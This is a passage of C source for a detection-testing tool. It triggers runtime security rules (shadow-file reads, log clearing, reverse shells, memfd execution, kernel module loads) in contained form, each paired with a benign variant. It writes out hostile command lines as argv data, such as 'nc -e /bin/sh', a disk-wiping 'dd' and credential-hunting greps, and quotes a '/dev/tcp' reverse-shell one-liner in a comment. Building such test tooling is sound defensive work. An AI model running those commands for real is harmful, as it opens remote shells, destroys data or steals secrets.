/* shrike-eventgen - performs, harmlessly, the behaviour each rule of
 * rules/shrike_rules.yaml detects, and a benign counterpart that must not
 * alert, so that a deployment (or the VM tests) can check the rules fire
 * end to end. Like falcosecurity/event-generator, one action per rule.
 *
 * Everything an action creates lives under fixed paths (WORKDIR,
 * /etc/shrike-eventgen-test, ...) rather than random temp names: the alerts
 * then have the same text on every run and tests can compare them exactly.
 * Each action removes what it created and waits for the children it started.
 *
 * Some behaviours are only suspicious from some programs (rules have
 * exceptions by process name): the benign side runs the same step in a copy
 * of this program started under the excepted name (a symlink named "dpkg",
 * "sshd", ...). Such a child finds its step in SHRIKE_EVENTGEN_STEP, so that
 * its command line is only what the rule looks at. */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE
#endif
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <arpa/inet.h>
#include <linux/magic.h>
#include <netdb.h>
#include <netinet/in.h>
#include <net/if.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/statfs.h>
#include <sys/syscall.h>
#include <sys/types.h>
#include <sys/wait.h>

#define WORKDIR	 "/tmp/shrike-eventgen"
#define STEP_ENV "SHRIKE_EVENTGEN_STEP"
/* Fixed loopback ports keep the connection tuple in the alert stable. */
#define RSHELL_SERVER_PORT 47801
#define RSHELL_CLIENT_PORT 47802
/* The ssh actions' server: a documentation address (RFC 5737), only ever
 * on the loopback device of a network namespace of their own. */
#define SSH_SERVER_ADDR "203.0.113.7"
#define SSH_CLIENT_PORT 47803
/* The Kubernetes API server as pods know it, on its service port; the
 * benign side connects to a port of localhost instead. */
#define K8S_API_NAME	"kubernetes.default.svc.cluster.local"
#define K8S_API_PORT	443
#define K8S_CLIENT_PORT 47804
#define K8S_BENIGN_PORT 47805
/* The uid an action drops to: nobody. */
#define NOBODY 65534

static const char *prog = "shrike-eventgen";
static char self[4096];
static bool verbose;
/* A step's command line: argv[0] is the name it runs under. */
static int step_argc;
static char **step_argv;

static void say(const char *fmt, ...)
{
	va_list ap;

	if (!verbose)
		return;
	va_start(ap, fmt);
	fprintf(stderr, "%s: ", prog);
	vfprintf(stderr, fmt, ap);
	fputc('\n', stderr);
	va_end(ap);
}

static int err(const char *what)
{
	fprintf(stderr, "%s: %s: %s\n", prog, what, strerror(errno));
	return -1;
}

/* ---- helpers -------------------------------------------------------------------- */

/* The work directory is ours only if we made it or own it and nobody else can
 * write it: another user could otherwise plant symlinks under a fixed name. */
static int workdir_enter(void)
{
	struct stat st;

	if (mkdir(WORKDIR, 0700) == 0)
		return 0;
	if (errno != EEXIST)
		return err("mkdir " WORKDIR);
	if (lstat(WORKDIR, &st) || !S_ISDIR(st.st_mode) || st.st_uid != geteuid() ||
	    (st.st_mode & 0022)) {
		fprintf(stderr, "%s: %s exists and is not a private directory of ours\n", prog,
			WORKDIR);
		return -1;
	}
	return 0;
}

static void workdir_leave(void)
{
	rmdir(WORKDIR);
}

static int create_file(const char *path, int extra_flags, mode_t mode)
{
	int fd = open(path, O_WRONLY | O_CREAT | O_CLOEXEC | extra_flags, mode);

	if (fd < 0)
		return err(path);
	close(fd);
	return 0;
}

static int wait_child(pid_t pid)
{
	int st;

	while (waitpid(pid, &st, 0) < 0)
		if (errno != EINTR)
			return err("waitpid");
	return WIFEXITED(st) ? WEXITSTATUS(st) : 128 + WTERMSIG(st);
}

/* Copies this program to path (mode 0755), for the actions that execute a
 * binary from a suspicious place. */
static int copy_self(const char *path)
{
	char buf[65536];
	ssize_t n;
	int in, out, ret = 0;

	in = open(self, O_RDONLY | O_CLOEXEC);
	if (in < 0)
		return err(self);
	out = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
	if (out < 0) {
		close(in);
		return err(path);
	}
	while ((n = read(in, buf, sizeof(buf))) > 0)
		if (write(out, buf, n) != n) {
			ret = err(path);
			break;
		}
	if (n < 0)
		ret = err(self);
	close(in);
	if (close(out))
		ret = err(path);
	return ret;
}

/* Runs path with argv under STEP_ENV=step and waits for it. */
static int run_step(const char *path, char *const argv[], const char *step)
{
	pid_t pid = fork();

	if (pid < 0)
		return err("fork");
	if (pid == 0) {
		setenv(STEP_ENV, step, 1);
		execv(path, argv);
		_exit(127);
	}
	return wait_child(pid);
}

/* Runs step in this program started under another name: a symlink
 * WORKDIR/name, so that proc.name is name. argv[0] is name; args follow. */
static int run_as(const char *name, const char *step, const char *const args[])
{
	char link[256], *argv[16];
	int i = 0, ret;

	snprintf(link, sizeof(link), WORKDIR "/%s", name);
	unlink(link);
	if (symlink(self, link))
		return err(link);
	argv[i++] = (char *)name;
	while (args && *args && i < 15)
		argv[i++] = (char *)*args++;
	argv[i] = NULL;
	ret = run_step(link, argv, step);
	unlink(link);
	return ret;
}

/* ---- steps: what an action does, in this process or in a renamed child ---------- */

static int step_noop(void)
{
	return 0;
}

static int step_write_etc(void)
{
	int ret = create_file("/etc/shrike-eventgen-test", 0, 0644);

	unlink("/etc/shrike-eventgen-test");
	return ret;
}

static const char *bin_dir(void)
{
	struct stat st;

	return stat("/usr/local/bin", &st) == 0 && S_ISDIR(st.st_mode) ? "/usr/local/bin"
								       : "/usr/bin";
}

static int step_write_bin(void)
{
	char path[256];
	int ret;

	snprintf(path, sizeof(path), "%s/shrike-eventgen-test", bin_dir());
	ret = create_file(path, 0, 0755);
	unlink(path);
	return ret;
}

static int step_read_shadow(void)
{
	int fd = open("/etc/shadow", O_RDONLY | O_CLOEXEC);

	if (fd < 0)
		return err("/etc/shadow");
	close(fd);
	return 0;
}

#define LOG_DIR	 "/var/log"
#define LOG_FILE LOG_DIR "/shrike-eventgen.log"

static int step_truncate_log(void)
{
	bool made_dir = mkdir(LOG_DIR, 0755) == 0;
	int ret;

	ret = create_file(LOG_FILE, 0, 0640);
	if (!ret)
		ret = create_file(LOG_FILE, O_TRUNC, 0640);
	unlink(LOG_FILE);
	if (made_dir)
		rmdir(LOG_DIR);
	return ret;
}

/* Enters its own UTS namespace (setns to the current one changes nothing),
 * then a new one; the child goes away with it. */
static int step_namespace(void)
{
	pid_t pid = fork();

	if (pid < 0)
		return err("fork");
	if (pid == 0) {
		int fd = open("/proc/self/ns/uts", O_RDONLY | O_CLOEXEC);

		if (fd < 0 || setns(fd, CLONE_NEWUTS))
			_exit(err("setns") ? 1 : 1);
		close(fd);
		_exit(unshare(CLONE_NEWUTS) ? 2 : 0);
	}
	return wait_child(pid);
}

/* An image that is not a module: every kernel refuses it before loading
 * anything, and without CAP_SYS_MODULE it is refused earlier still. */
static int step_init_module(void)
{
	static const char not_a_module[64] = "shrike-eventgen: not a kernel module";

	if (syscall(SYS_init_module, not_a_module, sizeof(not_a_module), "") == 0) {
		fprintf(stderr, "%s: init_module accepted a non-module?\n", prog);
		return 1;
	}
	return 0;
}

/* modprobe started by kmod: a module loader with its usual parent. */
static int step_modprobe_child(void)
{
	return run_as("modprobe", "init_module", NULL);
}

/* Seizes a child of ours that only sleeps and kills it: one ptrace call, as
 * the rule sees every call (a detach would be a second). */
static int step_ptrace(void)
{
	pid_t pid = fork();
	int ret = 0;

	if (pid < 0)
		return err("fork");
	if (pid == 0) {
		for (;;)
			pause();
	}
	if (ptrace(PTRACE_SEIZE, pid, NULL, NULL))
		ret = err("ptrace seize");
	kill(pid, SIGKILL);
	wait_child(pid);
	return ret;
}

/* A child asks to be traced by us (PTRACE_TRACEME) and exits: a tracee that
 * exits without a signal is reaped like any child. EPERM (already traced:
 * run under strace or gdb) is what the check looks for, not a failure. */
static int step_traceme(void)
{
	pid_t pid = fork();

	if (pid < 0)
		return err("fork");
	if (pid == 0)
		_exit(ptrace(PTRACE_TRACEME, 0, NULL, NULL) && errno != EPERM
			      ? (err("ptrace traceme"), 1)
			      : 0);
	return wait_child(pid);
}

/* A server running a command through a shell (this program as sh). */
static int step_server_shell(void)
{
	return run_as("sh", "noop", (const char *[]){ "-c", "id", NULL });
}

/* PostgreSQL's archive_command, run through a shell. */
static int step_server_archive(void)
{
	return run_as(
		"sh", "noop",
		(const char *[]){ "-c", "wal-g wal-push pg_wal/000000010000000000000001", NULL });
}

/* A volume formatted by its provisioner (this program as mkfs.ext4). */
static int step_mkfs_child(void)
{
	return run_as("mkfs.ext4", "noop", (const char *[]){ "-F", WORKDIR "/volume.img", NULL });
}

/* A program run in a login session as the uid in argv[1]: a child takes it
 * (its gid too) and executes this program, which only exits. */
static int step_login_session(void)
{
	uid_t uid = step_argc > 1 ? (uid_t)strtoul(step_argv[1], NULL, 10) : NOBODY;
	pid_t pid = fork();

	if (pid < 0)
		return err("fork");
	if (pid == 0) {
		if (setresgid(uid, uid, uid) || setresuid(uid, uid, uid))
			_exit((err("setresuid"), 1));
		setenv(STEP_ENV, "noop", 1);
		execl(self, "shrike-eventgen", (char *)NULL);
		_exit(127);
	}
	return wait_child(pid);
}

static int open_close(const char *path)
{
	int fd = open(path, O_RDONLY | O_CLOEXEC);

	if (fd < 0)
		return err(path);
	close(fd);
	return 0;
}

/* A server's worker process (a child of the same name) opens path. */
static int worker_open(const char *path)
{
	pid_t pid = fork();

	if (pid < 0)
		return err("fork");
	if (pid == 0)
		_exit(open_close(path) ? 1 : 0);
	return wait_child(pid);
}

static int step_worker_read_shadow(void)
{
	return worker_open("/etc/shadow");
}

static int step_worker_read_passwd(void)
{
	return worker_open("/etc/passwd");
}

/* The client side of the ssh actions, as ssh -p PORT USER@HOST: one TCP
 * connection from a fixed port, closed at once. */
static int step_ssh_connect(void)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(SSH_CLIENT_PORT) };
	int port = step_argc > 2 ? atoi(step_argv[2]) : 22, s, ret = 0;

	s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (s < 0)
		return err("socket");
	inet_pton(AF_INET, SSH_SERVER_ADDR, &a.sin_addr);
	if (bind(s, (struct sockaddr *)&a, sizeof(a)))
		ret = err("bind");
	a.sin_port = htons(port);
	if (!ret && connect(s, (struct sockaddr *)&a, sizeof(a)))
		ret = err("connect");
	close(s);
	return ret;
}

/* A network namespace of our own with SSH_SERVER_ADDR on its loopback and a
 * listener on it at port argv[1]; ssh connects to it there. Nothing leaves
 * the namespace, which goes away with this process. Without CAP_SYS_ADMIN
 * (an unprivileged container) there is no namespace: skipped. */
static int step_ssh_netns(void)
{
	const char *port = step_argc > 1 ? step_argv[1] : "22";
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(atoi(port)) };
	struct ifreq ifr;
	int s, srv = -1, ret = 0;
	char dest[64];

	if (unshare(CLONE_NEWNET)) {
		fprintf(stderr, "%s: ssh: skipped, no network namespace of our own: %s\n", prog,
			strerror(errno));
		return 0;
	}
	inet_pton(AF_INET, SSH_SERVER_ADDR, &a.sin_addr);
	s = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	if (s < 0)
		return err("socket");
	memset(&ifr, 0, sizeof(ifr));
	strcpy(ifr.ifr_name, "lo");
	if (ioctl(s, SIOCGIFFLAGS, &ifr) < 0)
		ret = err("SIOCGIFFLAGS lo");
	ifr.ifr_flags |= IFF_UP;
	if (!ret && ioctl(s, SIOCSIFFLAGS, &ifr) < 0)
		ret = err("SIOCSIFFLAGS lo");
	memset(&ifr, 0, sizeof(ifr));
	strcpy(ifr.ifr_name, "lo:1");
	memcpy(&ifr.ifr_addr,
	       &(struct sockaddr_in){ .sin_family = AF_INET, .sin_addr = a.sin_addr },
	       sizeof(struct sockaddr_in));
	if (!ret && ioctl(s, SIOCSIFADDR, &ifr) < 0)
		ret = err("SIOCSIFADDR lo:1");
	close(s);
	if (!ret) {
		srv = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
		if (srv < 0 || bind(srv, (struct sockaddr *)&a, sizeof(a)) || listen(srv, 1))
			ret = err("listen");
	}
	snprintf(dest, sizeof(dest), "shrike@%s", SSH_SERVER_ADDR);
	if (!ret)
		ret = run_as("ssh", "ssh_connect", (const char *[]){ "-p", port, dest, NULL });
	if (srv >= 0)
		close(srv);
	return ret;
}

/* ---- actions ------------------------------------------------------------------ */

static int write_below_etc(void)
{
	return step_write_etc();
}

static int write_below_etc_benign(void)
{
	return run_as("dpkg", "write_etc", (const char *[]){ "--configure", "-a", NULL });
}

static int write_below_binary_dir(void)
{
	return step_write_bin();
}

static int write_below_binary_dir_benign(void)
{
	return run_as("dpkg", "write_bin", (const char *[]){ "--configure", "-a", NULL });
}

static int read_sensitive_file(void)
{
	return step_read_shadow();
}

static int read_sensitive_file_benign(void)
{
	int ret = run_as("sshd", "read_shadow", (const char *[]){ "-D", NULL });
	int fd = open("/etc/passwd", O_RDONLY | O_CLOEXEC);

	if (fd >= 0)
		close(fd);
	return ret;
}

static int clear_log(void)
{
	return step_truncate_log();
}

static int clear_log_benign(void)
{
	return run_as("logrotate", "truncate_log", (const char *[]){ "/etc/logrotate.conf", NULL });
}

static int history_file(const char *name, bool rename_it)
{
	char path[256], to[256];
	int ret;

	snprintf(path, sizeof(path), WORKDIR "/%s", name);
	ret = create_file(path, 0, 0600);
	if (ret)
		return ret;
	if (rename_it) {
		snprintf(to, sizeof(to), WORKDIR "/%s.old", name);
		if (rename(path, to))
			ret = err("rename");
		unlink(to);
	} else if (unlink(path)) {
		ret = err("unlink");
	}
	unlink(path);
	return ret;
}

static int delete_shell_history(void)
{
	return history_file(".bash_history", false);
}

static int delete_shell_history_benign(void)
{
	return history_file("notes.txt", false) || history_file("notes.txt", true);
}

static int modify_shell_config(void)
{
	int ret = create_file(WORKDIR "/.bashrc", O_APPEND, 0644);

	unlink(WORKDIR "/.bashrc");
	return ret;
}

static int modify_shell_config_benign(void)
{
	int ret = create_file(WORKDIR "/bashrc.bak", 0, 0644), fd;

	/* Reading one is what every shell does. */
	fd = open(WORKDIR "/bashrc.bak", O_RDONLY | O_CLOEXEC);
	if (fd >= 0)
		close(fd);
	unlink(WORKDIR "/bashrc.bak");
	return ret;
}

static int symlink_to(const char *target)
{
	int ret = 0;

	if (symlink(target, WORKDIR "/link"))
		ret = err("symlink");
	unlink(WORKDIR "/link");
	return ret;
}

static int symlink_sensitive(void)
{
	return symlink_to("/etc/shadow");
}

static int symlink_sensitive_benign(void)
{
	return symlink_to("/etc/hostname");
}

/* sh -c "exit 0" in a new session, with or without a pseudo-terminal as its
 * controlling terminal (what kubectl exec -it gives). */
static int shell(bool with_tty)
{
	int master = -1;
	pid_t pid;

	if (with_tty) {
		master = posix_openpt(O_RDWR | O_NOCTTY | O_CLOEXEC);
		if (master < 0 || grantpt(master) || unlockpt(master))
			return err("pseudo-terminal");
	}
	pid = fork();
	if (pid < 0)
		return err("fork");
	if (pid == 0) {
		int fd;

		setsid();
		fd = with_tty ? open(ptsname(master), O_RDWR) : open("/dev/null", O_RDWR);
		if (fd < 0)
			_exit(126);
		if (with_tty)
			ioctl(fd, TIOCSCTTY, 0);
		dup2(fd, 0);
		dup2(fd, 1);
		dup2(fd, 2);
		execl("/bin/sh", "sh", "-c", "exit 0", (char *)NULL);
		_exit(127);
	}
	/* Wait before closing the master: a hangup would race the exec. */
	pid = wait_child(pid);
	if (master >= 0)
		close(master);
	return pid;
}

static int step_tty_shell(void)
{
	return shell(true);
}

static int step_notty_shell(void)
{
	return shell(false);
}

/* Below a runc-named parent, as kubectl exec -it and docker exec -it start
 * their shell (Falco's container_entrypoint). */
static int terminal_shell(void)
{
	return run_as("runc", "tty_shell", NULL);
}

static int terminal_shell_benign(void)
{
	return run_as("runc", "notty_shell", NULL);
}

/* Copies this program to dir/name, runs it by its path (argv[0] is the
 * path, as when a shell runs /dev/shm/x: Falco's proc.exe), removes it. */
static int exec_copy(const char *dir, const char *name)
{
	char path[512];
	int ret;

	snprintf(path, sizeof(path), "%s/%s", dir, name);
	ret = copy_self(path);
	if (!ret)
		ret = run_step(path, (char *[]){ path, NULL }, "noop");
	unlink(path);
	return ret;
}

static int exec_from_dev_shm(void)
{
	bool made = mkdir("/dev/shm", 01777) == 0;
	int ret = exec_copy("/dev/shm", "shrike-eventgen-shm");

	if (made)
		rmdir("/dev/shm");
	return ret;
}

static int exec_from_dev_shm_benign(void)
{
	return exec_copy(WORKDIR, "shrike-eventgen-tmp");
}

/* The first directory on overlayfs: in a container, its writable layer. */
static const char *overlay_dir(void)
{
	static const char *const dirs[] = { "/var/tmp", "/tmp", "/root", "/opt", "/home", "/" };
	struct statfs sf;
	size_t i;

	for (i = 0; i < sizeof(dirs) / sizeof(dirs[0]); i++)
		if (statfs(dirs[i], &sf) == 0 && sf.f_type == OVERLAYFS_SUPER_MAGIC &&
		    access(dirs[i], W_OK) == 0)
			return dirs[i];
	return NULL;
}

static int drop_and_execute(void)
{
	const char *dir = overlay_dir();

	/* Off overlayfs the rule cannot fire: not a failure of --all on a host. */
	if (!dir) {
		fprintf(stderr,
			"%s: drop_and_execute: skipped, no writable overlayfs directory "
			"(not in a container?)\n",
			prog);
		return 0;
	}
	return exec_copy(dir, "shrike-eventgen-drop");
}

static int drop_and_execute_benign(void)
{
	return run_step(self, (char *[]){ (char *)"shrike-eventgen", NULL }, "noop");
}

static int memfd_exec(void)
{
	char buf[65536];
	ssize_t n;
	pid_t pid;
	int in, fd, ret = 0;

	fd = memfd_create("shrike-eventgen", MFD_CLOEXEC);
	if (fd < 0)
		return err("memfd_create");
	in = open(self, O_RDONLY | O_CLOEXEC);
	if (in < 0) {
		close(fd);
		return err(self);
	}
	while ((n = read(in, buf, sizeof(buf))) > 0)
		if (write(fd, buf, n) != n) {
			ret = err("memfd write");
			break;
		}
	close(in);
	if (!ret) {
		pid = fork();
		if (pid < 0) {
			ret = err("fork");
		} else if (pid == 0) {
			setenv(STEP_ENV, "noop", 1);
			fexecve(fd, (char *[]){ (char *)"shrike-eventgen", NULL }, environ);
			_exit(127);
		} else {
			ret = wait_child(pid);
		}
	}
	close(fd);
	return ret;
}

static int memfd_exec_benign(void)
{
	return exec_copy(WORKDIR, "shrike-eventgen-file");
}

static int netcat_rce(void)
{
	return run_as("nc", "noop", (const char *[]){ "-e", "/bin/sh", "127.0.0.1", "4444", NULL });
}

static int netcat_rce_benign(void)
{
	return run_as("nc", "noop", (const char *[]){ "-z", "127.0.0.1", "4444", NULL });
}

static int search_private_keys(void)
{
	return run_as("grep", "noop",
		      (const char *[]){ "-rl", "BEGIN RSA PRIVATE KEY", WORKDIR, NULL });
}

static int search_private_keys_benign(void)
{
	return run_as("grep", "noop", (const char *[]){ "-rl", "TODO", WORKDIR, NULL });
}

static int tcp_socket(int port)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(port) };
	int s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0), one = 1;

	if (s < 0)
		return -1;
	a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	/* A port still taken (TIME_WAIT of an earlier run) falls back to any. */
	if (bind(s, (struct sockaddr *)&a, sizeof(a))) {
		a.sin_port = 0;
		bind(s, (struct sockaddr *)&a, sizeof(a));
	}
	return s;
}

/* A loopback connection whose client end a child duplicates onto 0, 1 and 2,
 * as bash -i >& /dev/tcp/HOST/PORT 0>&1 does; the child then just exits. */
static int reverse_shell(void)
{
	struct sockaddr_in a;
	socklen_t alen = sizeof(a);
	int srv, cli = -1, conn = -1, ret = 0;
	pid_t pid;

	srv = tcp_socket(RSHELL_SERVER_PORT);
	if (srv < 0 || listen(srv, 1) || getsockname(srv, (struct sockaddr *)&a, &alen)) {
		ret = err("listen");
		goto out;
	}
	cli = tcp_socket(RSHELL_CLIENT_PORT);
	if (cli < 0 || connect(cli, (struct sockaddr *)&a, sizeof(a))) {
		ret = err("connect");
		goto out;
	}
	conn = accept4(srv, NULL, NULL, SOCK_CLOEXEC);
	pid = fork();
	if (pid < 0) {
		ret = err("fork");
	} else if (pid == 0) {
		int fd;

		for (fd = 0; fd <= 2; fd++)
			if (dup2(cli, fd) < 0)
				_exit(1);
		_exit(0);
	} else {
		ret = wait_child(pid);
	}
out:
	/* The server closes last: the TIME_WAIT stays on its side. */
	if (cli >= 0)
		close(cli);
	if (conn >= 0)
		close(conn);
	if (srv >= 0)
		close(srv);
	return ret;
}

/* What shells do all day: a pipe and a file redirected onto 0 and 1. */
static int reverse_shell_benign(void)
{
	int p[2];
	pid_t pid;

	if (pipe2(p, O_CLOEXEC))
		return err("pipe");
	pid = fork();
	if (pid < 0)
		return err("fork");
	if (pid == 0) {
		int fd = open("/dev/null", O_RDWR);

		if (dup2(p[1], 1) < 0 || fd < 0 || dup2(fd, 0) < 0)
			_exit(1);
		_exit(0);
	}
	close(p[0]);
	close(p[1]);
	return wait_child(pid);
}

static int packet_socket(void)
{
	/* ETH_P_ALL is not bound until bind(): protocol 0 receives nothing. */
	int s = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0);

	if (s < 0)
		return err("socket(AF_PACKET)");
	close(s);
	return 0;
}

static int packet_socket_benign(void)
{
	int s = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);

	if (s < 0)
		return err("socket(AF_INET)");
	close(s);
	return 0;
}

static int kernel_module(void)
{
	return step_init_module();
}

static int kernel_module_benign(void)
{
	return run_as("kmod", "modprobe_child", NULL);
}

static int change_namespace(void)
{
	return step_namespace();
}

static int change_namespace_benign(void)
{
	return run_as("runc", "namespace", (const char *[]){ "init", NULL });
}

static int ptrace_attach(void)
{
	return step_ptrace();
}

static int ptrace_attach_benign(void)
{
	return run_as("strace", "ptrace", (const char *[]){ "-p", "1", NULL });
}

static int chmod_file(mode_t mode)
{
	int ret = create_file(WORKDIR "/suid-file", 0, 0755);

	if (!ret && chmod(WORKDIR "/suid-file", mode))
		ret = err("chmod");
	unlink(WORKDIR "/suid-file");
	return ret;
}

static int setuid_bit(void)
{
	return chmod_file(04755);
}

static int setuid_bit_benign(void)
{
	return chmod_file(0700);
}

/* A child runs as nobody with a saved uid of 0, as a setuid-root program that
 * dropped privileges does, and asks for uid to_uid. */
static int setuid_as_nobody(uid_t to_uid)
{
	pid_t pid = fork();

	if (pid < 0)
		return err("fork");
	if (pid == 0) {
		if (setresuid(NOBODY, NOBODY, 0))
			_exit(err("setresuid") ? 1 : 1);
		_exit(setuid(to_uid) ? 2 : 0);
	}
	return wait_child(pid);
}

static int setuid_to_root(void)
{
	return setuid_as_nobody(0);
}

static int setuid_to_root_benign(void)
{
	return setuid_as_nobody(NOBODY);
}

static int release_agent_file(const char *name)
{
	char path[256];
	int ret;

	snprintf(path, sizeof(path), WORKDIR "/%s", name);
	ret = create_file(path, 0, 0644);
	unlink(path);
	return ret;
}

static int release_agent(void)
{
	return release_agent_file("release_agent");
}

static int release_agent_benign(void)
{
	return release_agent_file("notify_on_release");
}

static int hardlink_to(const char *target)
{
	/* The attempt is the event: across file systems it fails (EXDEV). */
	if (link(target, WORKDIR "/hardlink") == 0)
		unlink(WORKDIR "/hardlink");
	else if (errno != EXDEV && errno != EPERM)
		return err("link");
	return 0;
}

static int hardlink_sensitive(void)
{
	return hardlink_to("/etc/shadow");
}

static int hardlink_sensitive_benign(void)
{
	int ret = create_file(WORKDIR "/notes", 0, 0644);

	if (!ret)
		ret = hardlink_to(WORKDIR "/notes");
	unlink(WORKDIR "/notes");
	return ret;
}

static int ptrace_traceme(void)
{
	return step_traceme();
}

static int ptrace_traceme_benign(void)
{
	return run_as("gdb", "traceme", (const char *[]){ "-q", "./a.out", NULL });
}

static int remove_bulk_data(void)
{
	return run_as("shred", "noop", (const char *[]){ "-u", "-z", WORKDIR "/data", NULL }) ||
	       run_as("dd", "noop",
		      (const char *[]){ "if=/dev/zero", "of=/dev/sdz", "bs=1M", "count=1", NULL });
}

static int remove_bulk_data_benign(void)
{
	return run_as("kubelet", "mkfs_child", NULL) ||
	       run_as("dd", "noop",
		      (const char *[]){ "if=/dev/zero", "of=" WORKDIR "/swapfile", "bs=1M",
					"count=1", NULL });
}

static int server_shell(void)
{
	return run_as("nginx", "server_shell", (const char *[]){ "-g", "daemon off;", NULL });
}

static int server_shell_benign(void)
{
	return run_as("postgres", "server_archive",
		      (const char *[]){ "-D", "/var/lib/postgresql/data", NULL });
}

static int system_user_interactive(void)
{
	return run_as("sshd", "login_session", (const char *[]){ "65534", NULL });
}

static int system_user_interactive_benign(void)
{
	return run_as("sshd", "login_session", (const char *[]){ "1000", NULL });
}

/* The namespace is made by a runc-named copy: "Change namespace" lets a
 * container runtime's unshare pass, and this action is not about it. */
static int ssh_nonstandard_port(void)
{
	return run_as("runc", "ssh_netns", (const char *[]){ "443", NULL });
}

static int ssh_nonstandard_port_benign(void)
{
	return run_as("runc", "ssh_netns", (const char *[]){ "22", NULL });
}

/* A TCP connection to NAME:PORT (its first address) from client_port (0:
 * any), closed at once. Where the address is one of this host's (the VM
 * tests put the API server's on lo), a listener of ours takes it, so that
 * the connect completes; elsewhere the real server does. */
static int connect_name(const char *name, int port, int client_port)
{
	struct addrinfo hints = { .ai_family = AF_UNSPEC, .ai_socktype = SOCK_STREAM }, *res;
	struct sockaddr_storage any = { 0 };
	int rc, srv, cli, one = 1, ret = 0;

	rc = getaddrinfo(name, NULL, &hints, &res);
	if (rc) {
		fprintf(stderr, "%s: %s does not resolve: %s\n", prog, name, gai_strerror(rc));
		return -1;
	}
	if (res->ai_family == AF_INET)
		((struct sockaddr_in *)res->ai_addr)->sin_port = htons(port);
	else
		((struct sockaddr_in6 *)res->ai_addr)->sin6_port = htons(port);
	srv = socket(res->ai_family, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (srv >= 0 && (setsockopt(srv, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one)) ||
			 bind(srv, res->ai_addr, res->ai_addrlen) || listen(srv, 1))) {
		close(srv);
		srv = -1;
	}
	cli = socket(res->ai_family, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (cli < 0) {
		ret = err("socket");
		goto out;
	}
	any.ss_family = res->ai_family;
	if (res->ai_family == AF_INET)
		((struct sockaddr_in *)&any)->sin_port = htons(client_port);
	else
		((struct sockaddr_in6 *)&any)->sin6_port = htons(client_port);
	setsockopt(cli, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	if (client_port && bind(cli, (struct sockaddr *)&any, res->ai_addrlen))
		fprintf(stderr, "%s: port %d taken, connecting from any\n", prog, client_port);
	if (connect(cli, res->ai_addr, res->ai_addrlen))
		ret = err("connect");
	close(cli);
out:
	if (srv >= 0)
		close(srv);
	freeaddrinfo(res);
	return ret;
}

/* As a pod's API client (kubectl, a client library) does, from the
 * container: what "Contact K8S API server from container" is about. */
static int contact_k8s_api(void)
{
	return connect_name(K8S_API_NAME, K8S_API_PORT, K8S_CLIENT_PORT);
}

static int contact_k8s_api_benign(void)
{
	return connect_name("localhost", K8S_BENIGN_PORT, 0);
}

/* A child (a server of ours, not a shell) opens each path for reading. */
static int open_in_child(const char *const paths[])
{
	pid_t pid = fork();

	if (pid < 0)
		return err("fork");
	if (pid == 0) {
		for (; *paths; paths++)
			if (open_close(*paths))
				_exit(1);
		_exit(0);
	}
	return wait_child(pid);
}

static int dir_traversal_read(void)
{
	return open_in_child((const char *[]){ WORKDIR "/../../etc/passwd", NULL });
}

static int dir_traversal_read_benign(void)
{
	int ret = create_file(WORKDIR "/notes", 0, 0644);

	if (!ret)
		ret = open_in_child((const char *[]){
			"/etc/passwd", WORKDIR "/../../tmp/shrike-eventgen/notes", NULL });
	unlink(WORKDIR "/notes");
	return ret;
}

static int debugfs_privileged(void)
{
	return run_as("debugfs", "noop", (const char *[]){ "-w", "/dev/sda1", NULL });
}

static int debugfs_privileged_benign(void)
{
	return run_as("dumpe2fs", "noop", (const char *[]){ "-h", "/dev/sda1", NULL });
}

static int read_sensitive_late(void)
{
	return run_as("nginx", "worker_read_shadow", (const char *[]){ "-g", "daemon off;", NULL });
}

static int read_sensitive_late_benign(void)
{
	return run_as("nginx", "worker_read_passwd", (const char *[]){ "-g", "daemon off;", NULL });
}

static int find_aws_credentials(void)
{
	return run_as("grep", "noop",
		      (const char *[]){ "-ri", "aws_secret_access_key", WORKDIR, NULL });
}

static int find_aws_credentials_benign(void)
{
	return run_as("grep", "noop", (const char *[]){ "-ri", "region", WORKDIR, NULL });
}

/* ---- tables -------------------------------------------------------------------- */

struct step {
	const char *name;
	int (*fn)(void);
};

static const struct step steps[] = {
	{ "noop", step_noop },
	{ "write_etc", step_write_etc },
	{ "write_bin", step_write_bin },
	{ "read_shadow", step_read_shadow },
	{ "truncate_log", step_truncate_log },
	{ "namespace", step_namespace },
	{ "init_module", step_init_module },
	{ "modprobe_child", step_modprobe_child },
	{ "ptrace", step_ptrace },
	{ "traceme", step_traceme },
	{ "server_shell", step_server_shell },
	{ "server_archive", step_server_archive },
	{ "mkfs_child", step_mkfs_child },
	{ "login_session", step_login_session },
	{ "worker_read_shadow", step_worker_read_shadow },
	{ "worker_read_passwd", step_worker_read_passwd },
	{ "ssh_netns", step_ssh_netns },
	{ "ssh_connect", step_ssh_connect },
	{ "tty_shell", step_tty_shell },
	{ "notty_shell", step_notty_shell },
};

struct action {
	const char *name;
	const char *rule;
	const char *what;
	int (*run)(void);
	int (*benign)(void);
};

#define A(n, rule, what)                      \
	{                                     \
#n, rule, what, n, n##_benign \
	}
static const struct action actions[] = {
	A(write_below_etc, "Write below etc",
	  "creates and removes /etc/shrike-eventgen-test | benign: the same as dpkg"),
	A(write_below_binary_dir, "Write below binary dir",
